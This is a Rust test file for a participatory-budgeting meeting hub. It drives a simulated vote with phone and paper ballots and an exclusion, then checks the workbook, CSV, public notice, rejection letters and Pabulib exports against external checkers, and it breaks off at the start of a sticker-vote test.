//! Results and exports after a real vote: a meeting driven over the protocol
//! with phone ballots, a paper batch keyed twice (one ballot over the limit,
//! one blank) and an adviser's exclusion, then the results workbook read back
//! cell by cell, the CSV, the notice (public at `/notice` only once counted),
//! the letters (one per proposal not funded, each with its reason), the same
//! documents from the organiser's endpoints, and the Pabulib file checked by
//! pabulib-checker and recomputed by pabutools. Simulated meetings with both
//! funding rules, several tie-breaks and seeds then go through the same
//! Pabulib checks.
//!
//! The Python tools come from scripts/setup-test-env (a virtualenv in
//! target/py, or YZ_PYTHON).

use crate::common::create_meeting;
use calamine::{Data, Reader, Xlsx};
use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;
use yuanzhuo_protocol::{PaperStatus, Phase};
use yuanzhuo_tests::http::get;
use yuanzhuo_tests::*;

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().expect("workspace").to_path_buf()
}

fn python() -> PathBuf {
    let p = std::env::var_os("YZ_PYTHON").map(PathBuf::from).unwrap_or_else(|| root().join("target/py/bin/python"));
    assert!(
        p.exists(),
        "{} is missing: run scripts/setup-test-env (it installs pabulib-checker and pabutools)",
        p.display()
    );
    p
}

/// A meeting from a meeting file next to the demo proposals; returns the
/// data folder and the token sheet.
fn meeting(dir: &Path, name: &str, rules: &str, voters: u32) -> (PathBuf, Value) {
    let file = dir.join(format!("{name}.toml"));
    let proposals = root().join("hub/demo/proposals.csv");
    std::fs::write(
        &file,
        format!(
            "[meeting]\nname = \"{name}\"\nvenue = \"幸福里社区党群服务中心\"\ndate = \"2026-11-28\"\nunit = \"南昌市西湖区\"\nsubunit = \"幸福里社区\"\nproposals = \"{}\"\n\n{rules}",
            proposals.display()
        ),
    )
    .unwrap();
    let data = dir.join(name);
    let text = create_meeting(&data, &file, voters).unwrap();
    (data, serde_json::from_str(&text).unwrap())
}

fn export_bytes(data: &Path, format: &str, dir: &Path) -> Vec<u8> {
    let out = dir.join(format!("export.{format}"));
    hub_cmd(&["export", "--data", data.to_str().unwrap(), "--format", format, "--out", out.to_str().unwrap()]).unwrap();
    std::fs::read(out).unwrap()
}

/// `hub export` that is expected to fail: its error text.
fn export_refused(data: &Path, format: &str) -> String {
    let out = Command::new(bin("hub"))
        .args(["export", "--data", data.to_str().unwrap(), "--format", format])
        .output()
        .unwrap();
    assert!(!out.status.success(), "{format} before the close should be refused");
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// Run tests/py/check_pabulib.py on a .pb and the JSON export beside it.
fn check_pabulib(pb: &Path, export: &Value, dir: &Path) -> String {
    let json = dir.join("export-for-pabutools.json");
    std::fs::write(&json, export.to_string()).unwrap();
    let out = Command::new(python()).arg(root().join("tests/py/check_pabulib.py")).arg(pb).arg(&json).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "pabulib checks failed for {}:\n{stdout}\n{}",
        pb.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.lines().any(|l| l.starts_with("ok ")), "{stdout}");
    stdout
}

async fn ack(c: &mut Client, command: Value) -> Value {
    let a = c.command(command.clone()).await.unwrap();
    assert!(is_ack(&a), "{command} → {a}");
    a
}

fn text(d: &Data) -> String {
    match d {
        Data::String(s) => s.clone(),
        Data::Float(f) => f.to_string(),
        Data::Int(i) => i.to_string(),
        Data::Empty => String::new(),
        other => other.to_string(),
    }
}

fn number(d: &Data) -> f64 {
    match d {
        Data::Float(f) => *f,
        Data::Int(i) => *i as f64,
        other => panic!("not a number: {other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn after_the_vote_the_office_gets_its_workbook_the_board_its_notice_and_proposers_their_letters() {
    let dir = tempfile::tempdir().unwrap();
    let rules = "[rules]\ntables = 6\nmax_choices = 3\nallocation = \"greedy_skip\"\ntie_break = \"lower_cost\"\n\n[rules.budget]\namount = 100000\n";
    let (data, sheet) = meeting(dir.path(), "幸福里社区项目筛选大会", rules, 10);
    let hub = Hub::start(&data, &[]).unwrap();
    let secret = token(&sheet, &["organiser"]);
    let mut org = Client::connect(&hub.url(), &secret).await.unwrap();
    ack(&mut org, cmd::open()).await;
    let mut adviser = Client::connect(&hub.url(), &token(&sheet, &["adviser_all"])).await.unwrap();
    ack(
        &mut adviser,
        json!({"kind": "annotate", "proposal": "P03", "feasibility": "excluded", "exclusion_rule": 2,
               "reason": "公厕属于物业管理范围，应由物业公司维修", "remark": "已转交物业公司，建议居民向业委会反映"}),
    )
    .await;
    // The organiser confirms the adviser's recommendation before the vote.
    ack(&mut org, json!({"kind": "confirm_exclusion", "proposal": "P03", "rule": 2, "reason": ""})).await;
    for p in ["discussion", "picks", "pitches", "voting"] {
        ack(&mut org, cmd::advance(p)).await;
    }

    // Ten phone ballots (no phone can choose the excluded P03).
    let choices: [&[&str]; 10] = [
        &["P04", "P01", "P02"],
        &["P04", "P01"],
        &["P04", "P05"],
        &["P04", "P06"],
        &["P01", "P07"],
        &["P08"],
        &["P04", "P09"],
        &["P01", "P02"],
        &["P10", "P04"],
        &["P02", "P05"],
    ];
    for (t, c) in voter_tokens(&sheet).iter().zip(choices) {
        let mut v = Client::connect(&hub.url(), t).await.unwrap();
        ack(&mut v, cmd::ballot(c)).await;
        v.close().await;
    }
    // One paper batch, keyed by two counters: a valid ballot (printed before
    // the exclusion, it also marks P03: a vote that funds nothing), one over
    // the limit of 3, one blank; the scrutineer counts three sheets.
    for n in 0..2 {
        let mut c = Client::connect(&hub.url(), sheet["counters"][n]["token"].as_str().unwrap()).await.unwrap();
        for (number, marks) in
            [("101", vec!["P01", "P02", "P03"]), ("102", vec!["P01", "P02", "P03", "P04"]), ("103", vec![])]
        {
            ack(&mut c, json!({"kind": "key_paper", "batch": 1, "number": number, "marks": marks})).await;
        }
        ack(&mut c, json!({"kind": "finish_paper", "batch": 1})).await;
        c.close().await;
    }
    let mut obs = Client::connect(&hub.url(), &token(&sheet, &["scrutineers", "0"])).await.unwrap();
    ack(&mut obs, json!({"kind": "declare_sheets", "batch": 1, "sheets": 3})).await;

    // Before the close: nothing final is published or printed.
    let early = get(hub.port, "/notice", &[]).await.unwrap();
    assert_eq!(early.status, 404, "{}", early.text());
    assert!(early.text().contains("尚未发布") && early.text().contains("not available yet"), "{}", early.text());
    for format in ["notice", "letters", "pabulib"] {
        let why = export_refused(&data, format);
        assert!(why.contains("投票尚未结束") && why.contains("the vote is not closed"), "{format}: {why}");
    }
    let auth = format!("Bearer {secret}");
    let refused = get(hub.port, "/api/admin/letters.html", &[("Authorization", &auth)]).await.unwrap();
    assert_eq!(refused.status, 409);
    assert_eq!(refused.json().unwrap()["code"], "not_counted");
    let binary = Command::new(bin("hub"))
        .args(["export", "--data", data.to_str().unwrap(), "--format", "xlsx"])
        .output()
        .unwrap();
    assert!(
        !binary.status.success() && String::from_utf8_lossy(&binary.stderr).contains("--out"),
        "XLSX is never written to a terminal"
    );
    // The provisional workbook says so.
    let provisional = export_bytes(&data, "xlsx", dir.path());
    let mut book = Xlsx::new(std::io::Cursor::new(provisional)).unwrap();
    let r = book.worksheet_range("结果 Results").unwrap();
    assert!(text(r.get_value((2, 0)).unwrap()).contains("临时结果"), "{:?}", r.get_value((2, 0)));

    ack(&mut org, cmd::advance("counted")).await;
    let export = export(&data).unwrap();
    let results = &export["results"];
    assert_eq!(results["final"], true);
    assert_eq!(
        (results["ballots"].as_u64(), results["paper"].as_u64(), results["void"].as_u64()),
        (Some(11), Some(1), Some(2))
    );
    let ranking = results["ranking"].as_array().unwrap();
    let reason_of = |id: &str| ranking.iter().find(|r| r["proposal"] == id).unwrap()["unfunded_reason"].clone();
    assert_eq!(reason_of("P03"), "excluded");
    assert_eq!(reason_of("P06"), "does_not_fit");
    assert_eq!(reason_of("P11"), "no_votes");
    let head = export["log_head"].as_str().unwrap().to_string();

    // ---- the workbook, read back
    let xlsx = export_bytes(&data, "xlsx", dir.path());
    let mut book = Xlsx::new(std::io::Cursor::new(xlsx.clone())).unwrap();
    assert_eq!(book.sheet_names(), vec!["结果 Results", "选票 Ballots", "提案 Proposals", "规则 Rules"]);
    let r = book.worksheet_range("结果 Results").unwrap();
    assert!(text(r.get_value((2, 0)).unwrap()).contains("最终结果"));
    let first = 6u32;
    assert_eq!(text(r.get_value((first - 1, 0)).unwrap()), "名次\nRank");
    assert_eq!(text(r.get_value((first - 1, 9)).unwrap()), "未资助原因\nReason not funded");
    for (i, row) in ranking.iter().enumerate() {
        let at = |c: u32| r.get_value((first + i as u32, c)).unwrap();
        assert_eq!(text(at(2)), row["proposal"].as_str().unwrap(), "row {i}");
        assert_eq!(number(at(0)), row["rank"].as_f64().unwrap());
        assert_eq!(number(at(5)), row["votes"].as_f64().unwrap());
        assert_eq!(number(at(6)), row["cost"].as_f64().unwrap());
        assert_eq!(number(at(8)), row["running_total"].as_f64().unwrap());
        assert_eq!(text(at(7)).starts_with("资助"), row["funded"] == true, "row {i}: {}", text(at(7)));
    }
    let p01 = (0..ranking.len()).find(|i| ranking[*i]["proposal"] == "P01").unwrap() as u32;
    assert_eq!(number(r.get_value((first + p01, 11)).unwrap()), 1.0, "P01 has one paper vote");
    let p03 = (0..ranking.len()).find(|i| ranking[*i]["proposal"] == "P03").unwrap() as u32;
    assert!(
        text(r.get_value((first + p03, 10)).unwrap()).contains("应由其他主体负责"),
        "the exclusion rule is in the note"
    );
    let last_funded = ranking.iter().rposition(|r| r["funded"] == true).unwrap();
    let totals: Vec<String> = (first + ranking.len() as u32..first + ranking.len() as u32 + 12)
        .map(|row| {
            format!(
                "{} {}",
                r.get_value((row, 3)).map(text).unwrap_or_default(),
                r.get_value((row, 4)).map(text).unwrap_or_default()
            )
        })
        .collect();
    let line =
        totals.iter().find(|t| t.starts_with("预算线")).unwrap_or_else(|| panic!("no budget line in {totals:?}"));
    assert!(line.contains(&format!("在第 {} 位之后", ranking[last_funded]["position"])), "{line}");
    assert!(totals.iter().any(|t| t.starts_with("作废纸质票") && t.ends_with(" 2")), "{totals:?}");

    let b = book.worksheet_range("选票 Ballots").unwrap();
    let rows: Vec<Vec<String>> = b.rows().skip(2).map(|r| r.iter().map(text).collect()).collect();
    assert_eq!(rows.len(), 13, "10 phone + 3 paper: {rows:?}");
    assert_eq!(
        rows.iter().filter(|r| r[0].contains("phone") && r[1].len() == 9).count(),
        10,
        "phone ballots by receipt"
    );
    let paper =
        |n: &str| rows.iter().find(|r| r[3] == n).unwrap_or_else(|| panic!("paper ballot {n}: {rows:?}")).clone();
    assert_eq!(paper("101")[6], "有效 valid");
    assert!(paper("102")[6].contains("void") && paper("102")[7].contains("over_limit"), "{:?}", paper("102"));
    assert!(paper("103")[7].contains("blank"), "{:?}", paper("103"));
    assert_eq!(paper("102")[4], "P01, P02, P03, P04", "the marks as keyed, never trimmed");

    let p = book.worksheet_range("提案 Proposals").unwrap();
    let p03_row: Vec<String> = p.rows().find(|r| text(&r[0]) == "P03").unwrap().iter().map(text).collect();
    assert!(p03_row[11].contains("第2条") && p03_row[12].contains("物业公司"), "{p03_row:?}");
    assert_eq!(p03_row[5], "社区老年协会", "the proposer, for the office's records");

    let rules_sheet = book.worksheet_range("规则 Rules").unwrap();
    let kv: Vec<(String, String)> = rules_sheet.rows().skip(2).map(|r| (text(&r[0]), text(&r[1]))).collect();
    let value =
        |k: &str| kv.iter().find(|(key, _)| key.starts_with(k)).unwrap_or_else(|| panic!("{k} in {kv:?}")).1.clone();
    assert_eq!(value("规则指纹"), export["fingerprint"].as_str().unwrap());
    assert_eq!(value("日志哈希"), head);
    assert!(value("资助规则").starts_with("greedy_skip"));

    // ---- the CSV keeps its columns and adds where the votes came from
    let csv = hub_cmd(&["export", "--data", data.to_str().unwrap(), "--format", "csv", "--lang", "en"]).unwrap();
    let csv = csv.strip_prefix('\u{feff}').expect("UTF-8 with a byte order mark");
    let mut lines = csv.lines();
    assert_eq!(
        lines.next().unwrap(),
        "rank,position,id,title,location,votes,cost,funded,running_total,unfunded_reason,final,phone_votes,paper_votes,sticker_votes,exclusion_rule,funded_by"
    );
    let p01_csv = lines.clone().find(|l| l.contains(",P01,")).unwrap();
    assert!(p01_csv.ends_with(",true,4,1,0,,greedy"), "{p01_csv}");
    assert!(lines.clone().find(|l| l.contains(",P03,")).unwrap().ends_with(",2,"), "P03 excluded under rule 2");
    // In Chinese by default, the same cells in people's words.
    let zh = hub_cmd(&["export", "--data", data.to_str().unwrap(), "--format", "csv"]).unwrap();
    let mut zh_lines = zh.strip_prefix('\u{feff}').expect("a byte order mark").lines();
    assert_eq!(
        zh_lines.next().unwrap(),
        "名次,位次,编号,项目,地点,得票,造价,是否资助,累计造价,未资助原因,是否最终结果,手机票,纸质票,贴纸票,排除规则,资助方式"
    );
    let p01_zh = zh_lines.clone().find(|l| l.contains(",P01,")).unwrap();
    assert!(p01_zh.ends_with(",是,4,1,0,,按排名"), "{p01_zh}");
    assert!(zh_lines.clone().find(|l| l.contains(",P03,")).unwrap().contains(",投票前已确认排除,是,"));

    // ---- the notice: public now, with the head and the budget line
    let notice = String::from_utf8(export_bytes(&data, "notice", dir.path())).unwrap();
    let public = get(hub.port, "/notice", &[]).await.unwrap();
    assert_eq!(public.status, 200);
    assert_eq!(public.text(), notice, "/notice is the exported notice");
    let spaced: Vec<String> = head.as_bytes().chunks(8).map(|c| String::from_utf8_lossy(c).into_owned()).collect();
    assert!(notice.contains(&spaced.join(" ")), "the full head, grouped");
    assert!(notice.contains("预算线") && notice.contains("class=\"line\""));
    assert!(notice.contains(&format!("以 {} 开头", &head[..16])), "how to check the head, in words");
    assert!(!notice.contains("hub verify"), "no command names on the public notice");
    assert!(
        notice.contains("作废 2 张") && notice.contains("超过可选项数 1 张") && notice.contains("空白票 1 张"),
        "void ballots by reason"
    );
    for who in ["主持人", "监票员", "计票员", "盖章"] {
        assert!(notice.contains(who), "{who}");
    }
    assert!(!notice.contains("社区老年协会"), "no proposer names on the public notice");
    for t in [secret.as_str(), voter_tokens(&sheet)[0].as_str()] {
        assert!(!notice.contains(t) && !notice.contains(&t.replace('-', "")), "no token on the notice");
    }

    // ---- letters: one per proposal not funded, each with its reason
    let letters = String::from_utf8(export_bytes(&data, "letters", dir.path())).unwrap();
    let unfunded: Vec<&Value> = ranking.iter().filter(|r| r["funded"] == false).collect();
    assert_eq!(letters.matches("<section class=\"letter\"").count(), unfunded.len());
    for r in &unfunded {
        let id = r["proposal"].as_str().unwrap();
        let start = letters.find(&format!("data-proposal=\"{id}\"")).unwrap_or_else(|| panic!("no letter for {id}"));
        let end = letters[start..].find("</section>").unwrap() + start;
        let letter = &letters[start..end];
        assert!(letter.contains(&format!("{} 票", r["votes"])), "{id}: its votes");
        match r["unfunded_reason"].as_str().unwrap() {
            "excluded" => {
                assert!(letter.contains("第2条“应由其他主体负责（如物业）”"), "{letter}");
                assert!(
                    letter.contains("公厕属于物业管理范围") && letter.contains("已转交物业公司"),
                    "the adviser's words"
                );
                assert!(letter.contains("尊敬的社区老年协会") && letter.contains("Dear 社区老年协会"));
            }
            "does_not_fit" => {
                let left =
                    100_000 - ranking[r["position"].as_u64().unwrap() as usize - 2]["running_total"].as_u64().unwrap();
                let left = format!("{},{:03} 元", left / 1000, left % 1000);
                assert!(
                    letter.contains(&format!("预算只剩 {}", left.trim_start_matches("0,"))),
                    "{id}: {left} left: {letter}"
                );
                assert!(letter.contains("does not fit") || letter.contains("did not fit"));
            }
            "no_votes" => assert!(letter.contains("没有获得选票") && letter.contains("received no votes"), "{letter}"),
            other => panic!("unexpected reason {other}"),
        }
        assert!(letter.contains(&format!("第 {} 位", ranking[last_funded]["position"])), "{id}: the budget line");
    }
    assert!(!letters.contains("data-proposal=\"P04\""), "funded proposals get no letter");

    // ---- the same documents from the organiser's console
    for (path, format) in [
        ("/api/admin/export.xlsx", "xlsx"),
        ("/api/admin/export.pb", "pabulib"),
        ("/api/admin/notice.html", "notice"),
        ("/api/admin/letters.html", "letters"),
    ] {
        let none = get(hub.port, path, &[]).await.unwrap();
        assert_eq!(none.status, 401, "{path} without the secret");
        let got = get(hub.port, path, &[("Authorization", &auth)]).await.unwrap();
        assert_eq!(got.status, 200, "{path}: {}", got.text());
        assert_eq!(got.body, export_bytes(&data, format, dir.path()), "{path} is hub export --format {format}");
        assert_eq!(got.header("cache-control"), Some("no-store"));
    }
    assert!(xlsx == export_bytes(&data, "xlsx", dir.path()), "the same log gives the same workbook, byte for byte");

    // ---- Pabulib: the format's checker and pabutools agree
    let pb = dir.path().join("meeting.pb");
    std::fs::write(&pb, export_bytes(&data, "pabulib", dir.path())).unwrap();
    let text_pb = std::fs::read_to_string(&pb).unwrap();
    assert!(text_pb.starts_with("META\nkey;value\n"));
    // P03 was excluded by the adviser and got votes, but it would not have
    // fitted anyway: greedy-threshold over the file's projects funds the
    // same, so the standard name stays, with the reason in the comment.
    assert!(text_pb.contains("\nrule;greedy-threshold\n") && text_pb.contains("\nmin_project_score_threshold;1\n"));
    assert!(text_pb.contains("The exclusions changed nothing: greedy-threshold over all the projects"), "{text_pb}");
    assert!(
        text_pb.contains("\nnum_votes;11\n")
            && text_pb.contains("\nmax_length;3\n")
            && text_pb.contains("\ndate_begin;28.11.2026\n")
            && text_pb.contains("\ndate_end;28.11.2026\n")
    );
    assert!(text_pb.contains("\nP03;86000;"), "the excluded proposal keeps its real cost: {text_pb}");
    assert!(!text_pb.contains("999999999"), "no sentinel costs");
    assert!(text_pb.contains("\ncountry;China\nunit;南昌市西湖区\nsubunit;幸福里社区\ninstance;2026\n"), "{text_pb}");
    assert!(
        text_pb.contains("1 proposals were excluded before the vote") && text_pb.contains("P03 (rule 2)"),
        "{text_pb}"
    );
    for line in text_pb.lines().skip_while(|l| *l != "PROJECTS").skip(2).take_while(|l| *l != "VOTES") {
        assert!(line.ends_with(";0") || line.ends_with(";1"), "selected is 0 or 1: {line}");
    }
    assert!(text_pb.contains("2 paper ballots were void") && text_pb.contains("blank 1, over_limit 1"));
    assert!(text_pb.contains("\npaper-101;P01,P02,P03;paper\n"));
    assert_eq!(text_pb.lines().filter(|l| l.ends_with(";internet")).count(), 10);
    let report = check_pabulib(&pb, &export, dir.path());
    // P15 and P40 (120,000 each) cost more than the budget of 100,000: real
    // costs, which pabulib-checker calls an error, checked to be just that.
    assert!(report.contains("proposals cost more than the whole budget (real costs kept)"), "{report}");

    // ---- and back: the .pb read as a rehearsal meeting's proposals
    let rehearsal = dir.path().join("rehearsal.toml");
    std::fs::write(
        &rehearsal,
        "[meeting]\nname = \"排练\"\nproposals = \"meeting.pb\"\n\n[rules]\ntables = 6\n\n[rules.budget]\namount = 100000\n",
    )
    .unwrap();
    let check = hub_cmd(&["check", "--meeting", rehearsal.to_str().unwrap()]).unwrap();
    assert!(check.contains("可以使用 / OK") && check.contains("60 个提案 proposals"), "{check}");
    assert!(check.contains("Pabulib 实例（China, 南昌市西湖区, 幸福里社区, 2026）"), "{check}");
    let rehearsal_data = dir.path().join("rehearsal");
    hub_cmd(&["tokens", "--data", rehearsal_data.to_str().unwrap(), "--meeting", rehearsal.to_str().unwrap()]).unwrap();
    let again = hub_cmd(&["export", "--data", rehearsal_data.to_str().unwrap(), "--format", "json"]).unwrap();
    let again: Value = serde_json::from_str(&again).unwrap();
    let key = |p: &Value| (p["id"].clone(), p["title"].clone(), p["cost"].clone(), p["category"].clone());
    let mut original: Vec<_> = export["proposals"].as_array().unwrap().iter().map(key).collect();
    let mut read_back: Vec<_> = again["proposals"].as_array().unwrap().iter().map(key).collect();
    // The .pb lists projects in ranking order; the meeting keeps that order.
    original.sort_by_key(|k| k.0.to_string());
    read_back.sort_by_key(|k| k.0.to_string());
    assert_eq!(read_back, original, "ids, titles, costs and categories survive the round trip");
}

/// When an adviser's exclusion changes the outcome, the standard rule name
/// would be a false claim: a greedy meeting is `greedy-custom`, with the
/// exclusion in the comment. And equal shares that buys everything without
/// its completion step is `equalshares`, which pabulib-checker recomputes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_rule_name_is_standard_only_when_it_tells_the_truth() {
    let dir = tempfile::tempdir().unwrap();
    for (name, rules, exclude, expected) in [
        ("排除改变结果", "allocation = \"greedy_skip\"\n\n[rules.budget]\namount = 40000\n", true, "greedy-custom"),
        ("平均分配", "allocation = \"equal_shares\"\n\n[rules.budget]\namount = 24000\n", false, "equalshares"),
    ] {
        let rules = format!("[rules]\ntables = 6\nmax_choices = 3\n{rules}");
        let (data, sheet) = meeting(dir.path(), name, &rules, 4);
        let hub = Hub::start(&data, &[]).unwrap();
        let mut org = Client::connect(&hub.url(), &token(&sheet, &["organiser"])).await.unwrap();
        ack(&mut org, cmd::open()).await;
        if exclude {
            // P01 (14,000) is everyone's choice, but another party is responsible.
            let mut adviser = Client::connect(&hub.url(), &token(&sheet, &["adviser_all"])).await.unwrap();
            ack(
                &mut adviser,
                json!({"kind": "annotate", "proposal": "P01", "feasibility": "excluded", "exclusion_rule": 2,
                       "reason": "由物业公司负责"}),
            )
            .await;
            ack(&mut org, json!({"kind": "confirm_exclusion", "proposal": "P01", "rule": 2, "reason": ""})).await;
        }
        for p in ["discussion", "picks", "pitches", "voting"] {
            ack(&mut org, cmd::advance(p)).await;
        }
        // P02 costs 12,000, P05 9,600: together within every share.
        for t in voter_tokens(&sheet) {
            let mut v = Client::connect(&hub.url(), &t).await.unwrap();
            ack(&mut v, cmd::ballot(&["P02", "P05"])).await;
            v.close().await;
        }
        if exclude {
            // No phone may choose P01 now, but paper printed before can mark it:
            // four such ballots, keyed by two counters, counted by a scrutineer.
            for n in 0..2 {
                let mut c = Client::connect(&hub.url(), sheet["counters"][n]["token"].as_str().unwrap()).await.unwrap();
                for number in ["1", "2", "3", "4"] {
                    ack(&mut c, json!({"kind": "key_paper", "batch": 1, "number": number, "marks": ["P01"]})).await;
                }
                ack(&mut c, json!({"kind": "finish_paper", "batch": 1})).await;
                c.close().await;
            }
            let mut obs = Client::connect(&hub.url(), &token(&sheet, &["scrutineers", "0"])).await.unwrap();
            ack(&mut obs, json!({"kind": "declare_sheets", "batch": 1, "sheets": 4})).await;
        }
        ack(&mut org, cmd::advance("counted")).await;
        let export = export(&data).unwrap();
        let pb = dir.path().join(format!("{name}.pb"));
        std::fs::write(&pb, export_bytes(&data, "pabulib", dir.path())).unwrap();
        let text_pb = std::fs::read_to_string(&pb).unwrap();
        assert!(text_pb.contains(&format!("\nrule;{expected}\n")), "{name}: {text_pb}");
        let report = check_pabulib(&pb, &export, dir.path());
        assert!(
            report.contains(&format!("rule {expected}: the standard rule over all the file's projects")),
            "{report}"
        );
        if exclude {
            assert!(text_pb.contains("\nP01;14000;4;"), "the excluded proposal keeps its cost and votes: {text_pb}");
            assert!(text_pb.contains("The rule is therefore greedy-custom"), "{text_pb}");
            // Without the exclusion P01 would fit in what is left (18,400).
            let mut funded: Vec<&str> =
                export["results"]["funded"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
            funded.sort();
            assert_eq!(funded, ["P02", "P05"]);
        } else {
            assert!(report.contains("pabutools equal shares agrees: 2 bought by the shares"), "{report}");
            assert!(!text_pb.contains("\nmin_project_score_threshold"), "{text_pb}");
        }
    }
}

/// Simulated meetings (the simulator plays every role) under both funding
/// rules and several tie-breaks and seeds: each .pb passes pabulib-checker,
/// pabutools recomputes the hub's outcome, and every letter names its
/// reason.
#[test]
fn simulated_meetings_agree_with_pabutools_under_both_rules() {
    let dir = tempfile::tempdir().unwrap();
    let cases: [(&str, &str, u64, u32, u64); 6] = [
        ("greedy_skip", "list_order", 21, 60, 300_000),
        ("greedy_skip", "lot", 22, 35, 150_000),
        ("equal_shares", "list_order", 23, 90, 300_000),
        ("equal_shares", "lower_cost", 24, 150, 300_000),
        ("equal_shares", "lot", 25, 40, 120_000),
        ("greedy_stop", "lower_cost", 26, 50, 200_000),
    ];
    for (i, (allocation, tie_break, seed, voters, budget)) in cases.into_iter().enumerate() {
        let rules = format!(
            "[rules]\ntables = 6\nallocation = \"{allocation}\"\ntie_break = \"{tie_break}\"\n\n[rules.budget]\namount = {budget}\n"
        );
        let (data, sheet) = meeting(dir.path(), &format!("meeting-{i}"), &rules, voters);
        let tokens_file = dir.path().join(format!("tokens-{i}.json"));
        std::fs::write(&tokens_file, sheet.to_string()).unwrap();
        let hub = Hub::start(&data, &[]).unwrap();
        let out = Command::new(bin("simulate"))
            .args(["--hub", &hub.url(), "--seed", &seed.to_string()])
            .arg("--tokens")
            .arg(&tokens_file)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        let export = export(&data).unwrap();
        assert_eq!(export["results"]["final"], true);
        let pb = dir.path().join(format!("meeting-{i}.pb"));
        std::fs::write(&pb, export_bytes(&data, "pabulib", dir.path())).unwrap();
        let report = check_pabulib(&pb, &export, dir.path());
        let what = format!("{allocation}/{tie_break}/seed {seed}: {report}");
        eprintln!("{what}");
        match allocation {
            "greedy_skip" => assert!(report.contains("pabutools greedy agrees"), "{what}"),
            "equal_shares" => assert!(report.contains("pabutools equal shares agrees"), "{what}"),
            _ => assert!(report.contains("greedy stopping at the first misfit agrees"), "{what}"),
        }
        // The standard rule name is kept when the meeting's exclusions did not
        // change what a rule over every project of the file funds (and the
        // script checks that claim).
        assert!(report.contains("the standard rule over all the file's projects gives"), "{what}");

        let letters = String::from_utf8(export_bytes(&data, "letters", dir.path())).unwrap();
        for r in export["results"]["ranking"].as_array().unwrap().iter().filter(|r| r["funded"] == false) {
            let id = r["proposal"].as_str().unwrap();
            let start = letters
                .find(&format!("data-proposal=\"{id}\""))
                .unwrap_or_else(|| panic!("{what}: no letter for {id}"));
            let letter = &letters[start..start + letters[start..].find("</section>").unwrap()];
            let excluded = export["exclusions"].as_array().unwrap().iter().any(|x| x["proposal"] == id);
            let must = match (excluded, r["unfunded_reason"].as_str().unwrap()) {
                (true, _) => "排除规则",
                (false, "no_votes") => "没有获得选票",
                (false, "stopped") => "即停止",
                (false, "does_not_fit") if allocation == "equal_shares" => "平均分配法",
                (false, "does_not_fit") => "放不下",
                (_, other) => panic!("{what}: reason {other}"),
            };
            assert!(letter.contains(must), "{what}: the letter for {id} says {must:?}: {letter}");
        }
    }
}

/// A street-level instance for equal shares: 320 proposals at three costs,
/// 600 simulated voters, so that votes and prices tie again and again.
/// pabutools (with the meeting's ranking as its tie-break) buys exactly
/// what the hub's shares bought and completes to exactly what the hub
/// funded, and scripts/verify-count agrees with every decisive flag.
#[test]
fn equal_shares_with_many_ties_agrees_with_pabutools_at_320_proposals() {
    let dir = tempfile::tempdir().unwrap();
    let mut csv = String::from("编号,标题,估算金额\n");
    for i in 1..=320 {
        csv.push_str(&format!("P{i:03},项目{i},{}\n", [10_000, 20_000, 30_000][i % 3]));
    }
    std::fs::write(dir.path().join("p320.csv"), csv).unwrap();
    let file = dir.path().join("p320.toml");
    std::fs::write(
        &file,
        "[meeting]\nname = \"街道项目筛选大会\"\nvenue = \"街道\"\ndate = \"2026-11-28\"\nproposals = \"p320.csv\"\n\n\
         [rules]\ntables = 16\nmax_choices = 10\nallocation = \"equal_shares\"\ntie_break = \"list_order\"\n\n\
         [rules.budget]\namount = 1500000\n",
    )
    .unwrap();
    let data = dir.path().join("p320");
    let (d, f) = (data.to_str().unwrap(), file.to_str().unwrap());
    let sheet = hub_cmd(&["tokens", "--data", d, "--meeting", f, "--format", "json", "--voters", "600"]).unwrap();
    let tokens_file = dir.path().join("tokens.json");
    std::fs::write(&tokens_file, sheet).unwrap();
    let hub = Hub::start(&data, &[]).unwrap();
    let out = Command::new(bin("simulate"))
        .args(["--hub", &hub.url(), "--seed", "320", "--phase", "voting-only"])
        .arg("--tokens")
        .arg(&tokens_file)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}\n{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    drop(hub);

    let export = export(&data).unwrap();
    let r = &export["results"];
    assert_eq!(r["final"], true);
    let ties = r["ties"].as_array().unwrap();
    let tied: usize = ties.iter().map(|t| t["proposals"].as_array().unwrap().len()).sum();
    let decisive = ties.iter().filter(|t| t["decisive"] == true).count();
    eprintln!("{} tie groups, {tied} proposals tied, {decisive} decisive", ties.len());
    assert!(
        ties.len() >= 20 && tied >= 150,
        "{} tie groups, {tied} tied: not the many ties this test is for",
        ties.len()
    );
    let es = &r["equal_shares"];
    assert!(es["selected"].as_array().unwrap().len() >= 10, "the shares buy a good part: {es}");

    let pb = dir.path().join("p320.pb");
    std::fs::write(&pb, export_bytes(&data, "pabulib", dir.path())).unwrap();
    let report = check_pabulib(&pb, &export, dir.path());
    assert!(report.contains("pabutools equal shares agrees"), "{report}");

    let log = dir.path().join("p320.jsonl");
    std::fs::write(&log, export_bytes(&data, "log", dir.path())).unwrap();
    let json = dir.path().join("p320.json");
    std::fs::write(&json, export.to_string()).unwrap();
    let vc = Command::new("python3").arg(root().join("scripts/verify-count")).arg(&log).arg(&json).output().unwrap();
    assert!(vc.status.success(), "verify-count disagrees:\n{}", String::from_utf8_lossy(&vc.stdout));
}

/// Sticker boards have no voters: the .pb keeps the ballots that have them,
/// says in its comment what the stickers added, and names its rule
/// `greedy-custom`, which pabulib-checker accepts as not recomputable; the
/// notice and the workbook show the stickers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sticker_votes_are_described_not_invented_as_ballots() {
    let dir = tempfile::tempdir().unwrap();
    let rules = "[rules]\ntables = 6\nallocation = \"greedy_skip\"\n\n[rules.budget]\namount = 150000\n";
    let (data, sheet) = meeting(dir.path(), "贴纸投票会议", rules, 4);
